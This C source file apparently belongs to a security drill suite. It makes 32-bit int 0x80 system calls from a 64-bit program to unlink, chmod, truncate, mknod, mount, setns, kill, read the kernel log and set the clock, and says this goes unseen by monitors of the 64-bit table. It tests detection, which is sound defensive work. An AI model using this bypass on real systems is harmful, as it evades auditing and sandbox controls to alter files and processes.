/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The same acts by 32-bit system calls (int 0x80) from a 64-bit program: other numbers, and a
 * watcher of the 64-bit table sees nothing. Needs a build with -static -no-pie, so that the
 * buffers below have addresses that fit in 32 bits.
 */
#include <fcntl.h>
#include <stdint.h>
#include <sys/sysmacros.h>
#include <time.h>

#include "drill/attacks/attack.h"

enum {
  kOpen32 = 5,
  kUnlink32 = 10,
  kMknod32 = 14,
  kChmod32 = 15,
  kMount32 = 21,
  kKill32 = 37,
  kRename32 = 38,
  kSetTimeOfDay32 = 79,
  kTruncate32 = 92,
  kSyslog32 = 103,
  kSetns32 = 346
};

static char first[4096], second[4096], third[256];

static long call32(long number, uintptr_t a, uintptr_t b, uintptr_t c, uintptr_t d) {
  long result;
  __asm__ volatile("int $0x80"
                   : "=a"(result)
                   : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(0L)
                   : "memory", "r8", "r9", "r10", "r11");
  int value = (int)result;
  if (value >= 0) return value;
  errno = -value;
  return -1;
}

static uintptr_t low(char* buffer, size_t size, const char* text) {
  snprintf(buffer, size, "%s", text);
  return (uintptr_t)buffer;
}

/* Acts on a path that read nothing. */
static int change(const char* act, const char* path) {
  uintptr_t at = low(first, sizeof(first), path);
  snprintf(second, sizeof(second), "%s.x", path);
  if (strcmp(act, "unlink") == 0) return finish(call32(kUnlink32, at, 0, 0, 0));
  if (strcmp(act, "chmod") == 0) return finish(call32(kChmod32, at, 0666, 0, 0));
  if (strcmp(act, "truncate") == 0) return finish(call32(kTruncate32, at, 0, 0, 0));
  if (strcmp(act, "block_node") == 0) return finish(call32(kMknod32, at, 060600, makedev(7, 0), 0));
  return finish(call32(kRename32, at, (uintptr_t)second, 0, 0));
}

static int read_log(const char* wanted) {
  static char text[1 << 18];
  long size = call32(kSyslog32, 3, (uintptr_t)text, sizeof(text) - 1, 0);
  const char* found = size < 0 ? NULL : strstr(text, wanted);
  if (found == NULL) return refused();
  printf("ok %.*s\n", (int)strcspn(found, "\n"), found);
  return 0;
}

static int set_clock(void) {
  int32_t* day = (int32_t*)first;
  day[0] = (int32_t)time(NULL) + 3600;
  day[1] = 0;
  return finish(call32(kSetTimeOfDay32, (uintptr_t)first, 0, 0, 0));
}

int attack_compat(int argc, char** argv) {
  const char* act = argc > 1 ? argv[1] : "";
  if (argc == 3 && strcmp(act, "open") == 0) {
    long fd = call32(kOpen32, low(first, sizeof(first), argv[2]), O_RDONLY, 0, 0);
    return finish_reading((int)fd);
  }
  if (argc == 5 && strcmp(act, "mount") == 0)
    return finish(call32(kMount32, low(first, sizeof(first), argv[2]),
                         low(second, sizeof(second), argv[3]), low(third, sizeof(third), argv[4]),
                         0));
  if (argc == 4 && strcmp(act, "setns") == 0) {
    int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
    if (fd < 0 || call32(kSetns32, (uintptr_t)fd, 0, 0, 0) < 0) return refused();
    return finish_reading(open(argv[3], O_RDONLY | O_CLOEXEC));
  }
  if (argc == 4 && strcmp(act, "kill") == 0)
    return finish(call32(kKill32, (uintptr_t)atoi(argv[2]), (uintptr_t)atoi(argv[3]), 0, 0));
  if (argc == 3 && strcmp(act, "log") == 0) return read_log(argv[2]);
  if (argc == 2 && strcmp(act, "clock") == 0) return set_clock();
  if (argc == 3) return change(act, argv[2]);
  return usage(
      "compat open|unlink|chmod|truncate|rename|block_node PATH | mount SOURCE TARGET TYPE |"
      " setns NAMESPACE PROBE | kill PID SIGNAL | log WORD | clock");
}
